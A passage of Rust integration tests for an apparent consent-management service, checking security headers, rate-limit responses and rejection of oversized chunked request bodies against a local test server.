        &json!({"subject": subject, "content_type": "special_offers", "channel": "email"}),
    );
    let pref = stack
        .api
        .post_admin(&format!("{site_path}/links"), &json!({"email": "headers@example.fr", "purpose": "preferences"}));
    let pref_token = pref.body["token"].as_str().unwrap().to_owned();
    let pages = [
        (path_of(unsub.body["url"].as_str().unwrap()), None),
        (format!("/p/{pref_token}"), None),
        (format!("{site_path}/subjects/{subject}/export/page"), Some(admin.as_str())),
        (format!("{site_path}/record-of-processing/page"), Some(admin.as_str())),
    ];
    for (path, bearer) in pages {
        let r = stack.api.send("GET", &path, &[], bearer, None);
        assert_eq!(r.status, 200, "{path}");
        assert!(r.content_type.starts_with("text/html"), "{path}: {}", r.content_type);
        let csp = r.header("content-security-policy").unwrap_or_default();
        for directive in ["default-src 'none'", "frame-ancestors 'none'", "form-action"] {
            assert!(csp.contains(directive), "{path}: CSP {csp:?} lacks {directive}");
        }
        assert!(!csp.contains("unsafe-inline") || csp.contains("style-src"), "{path}: no inline script: {csp}");
        assert!(!csp.contains("script-src 'unsafe-inline'"), "{path}: {csp}");
        assert_eq!(r.header("x-content-type-options"), Some("nosniff"), "{path}");
        assert!(r.header("cache-control").is_some_and(|c| c.contains("no-store")), "{path}");
        assert_eq!(r.header("access-control-allow-origin"), None, "{path}");
    }

    // The rate limiter's answer says when to come back.
    let mut last = None;
    for i in 0..40 {
        let mut s = submission.clone();
        s["email"] = json!(format!("flood{i}@example.fr"));
        let r = stack.api.send(
            "POST",
            &format!("{site_path}/consents"),
            &[json_ct, ("x-forwarded-for", "203.0.113.9")],
            None,
            Some(s.to_string().as_bytes()),
        );
        if r.status == 429 {
            last = Some(r);
            break;
        }
    }
    let limited = last.expect("the per-client write limit is reached within 40 requests");
    assert!(limited.header("retry-after").and_then(|s| s.parse::<u32>().ok()).is_some_and(|s| (1..=60).contains(&s)));
    assert_eq!(limited.content_type, "application/problem+json");
}

/// A body sent chunked (no declared length) is refused once it passes the limit, while the
/// client is still sending: the edge does not wait for, nor buffer, the whole of it.
#[test]
fn a_chunked_body_past_the_limit_is_refused_while_it_is_still_coming() {
    use std::io::{Read, Write};
    let stack = Stack::start("chunked");
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", stack.edge.port)).unwrap();
    let head = format!(
        "POST /v1/sites/{SITE}/consents HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\nx-forwarded-for: 192.0.2.99\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).unwrap();
    stream.set_read_timeout(Some(std::time::Duration::from_millis(200))).unwrap();
    let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, "A".repeat(64 * 1024));
    let mut first = [0u8; 1];
    let mut sent = 0;
    // Up to 64 MiB, never the final zero-length chunk: only an edge that stops reading at the
    // limit can answer.
    let answered_early = (0..1024).any(|_| {
        if stream.write_all(chunk.as_bytes()).is_err() {
            return true;
        }
        sent += 64 * 1024;
        matches!(stream.peek(&mut first), Ok(n) if n > 0)
    });
    assert!(answered_early, "no answer after {sent} bytes: the body was being read in full");
    stream.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let text = String::from_utf8_lossy(&raw);
    assert!(text.starts_with("HTTP/1.1 413"), "{}", text.lines().next().unwrap_or(""));
    assert!(text.contains("max_body_size"), "{text}");
    assert!(sent < 64 * 1024 * 1024);
}
